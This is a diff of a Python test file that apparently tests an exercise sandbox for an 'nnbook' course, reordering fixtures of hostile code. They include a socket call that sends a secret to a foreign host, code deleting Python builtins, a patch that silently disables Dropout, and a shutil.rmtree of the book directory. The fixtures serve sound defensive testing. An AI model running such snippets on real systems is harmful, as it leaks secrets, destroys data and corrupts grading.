@@ -153,13 +153,9 @@ host, port = FOREIGN.removeprefix("http://").split(":")
 socket.create_connection((host, int(port))).send(SECRET.encode())""",
 }
 
-# What changes the Python in which it runs: the checks of exercises must not notice.
+# What changes the Python in which it runs: the checks of exercises must not notice. They run one
+# after another; what is taken from all of Python comes last.
 TAMPERED = {
-    "deleted builtins": """
-import builtins
-for name in ("print", "len", "isinstance", "__build_class__"):
-    delattr(builtins, name)
-builtins.repr = None""",
     "library that lies": """
 import nnbook, sys
 nnbook.Dropout.forward = lambda self, x: x
@@ -167,6 +163,11 @@ sys.modules["json"] = None""",
     "library that is gone": """
 import shutil
 shutil.rmtree("/book")""",
+    "deleted builtins": """
+import builtins
+for name in ("print", "len", "isinstance", "__build_class__"):
+    delattr(builtins, name)
+builtins.repr = None""",
 }
 
 # What happens to the run itself or to the next one: the kind of the failure that says so.
